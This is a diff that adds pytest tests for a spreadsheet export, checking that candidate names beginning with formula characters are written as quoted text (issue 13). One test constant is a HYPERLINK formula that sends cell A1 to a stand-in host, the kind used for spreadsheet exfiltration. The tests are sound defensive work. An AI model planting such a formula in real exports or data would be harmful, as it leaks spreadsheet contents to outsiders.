@@ -240,3 +240,50 @@ def test_downloads_are_for_the_campaigns_hr_and_admins_only(
         assert event.actor == user
     else:
         assert not AuditEvent.objects.filter(action=f"export.{kind}").exists()
+
+
+# --------------------------------------------------------------------------- formula cells (issue 13)
+
+HOSTILE = '=HYPERLINK("http://example.invalid/?q="&A1,"Петрова")'
+
+
+@pytest.mark.parametrize("text", [HOSTILE, "+7 (900) 000", "-1+1", "@SUM(A1)", "\tx", "\rx"])
+def test_text_a_spreadsheet_would_evaluate_is_written_as_text(text: str) -> None:
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    ws = wb.worksheets[0]
+    cell = export.put(ws, 1, 1, text)
+    assert (cell.data_type, cell.quotePrefix, cell.value) == ("s", True, text)
+    back = load_workbook(_saved(wb)).worksheets[0]["A1"]
+    assert (back.data_type, back.value) == ("s", text)
+
+
+def test_plain_text_and_numbers_are_written_as_they_are() -> None:
+    from openpyxl import Workbook
+
+    ws = Workbook().worksheets[0]
+    assert export.put(ws, 1, 1, "Иванов").quotePrefix is False
+    assert export.put(ws, 1, 2, -3).data_type == "n"  # a negative number stays a number
+
+
+def test_a_candidates_name_that_is_a_formula_stays_text_in_hr_exports(
+    world: dict[str, Any],
+) -> None:
+    """Issue 13: a surname «=HYPERLINK(…)» was a live link in HR's export."""
+    person = world["other_application"].person
+    person.last_name = HOSTILE
+    person.save(update_fields=["last_name"])
+    for kind in ("reserve", "rating", "ballots"):
+        wb = build(kind, world)
+        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], kind
+    (row,) = rows_of(build("reserve", world)["Резерв"])
+    assert row[1].startswith(HOSTILE)
+
+
+def _saved(wb: Any) -> io.BytesIO:
+    out = io.BytesIO()
+    wb.save(out)
+    out.seek(0)
+    return out
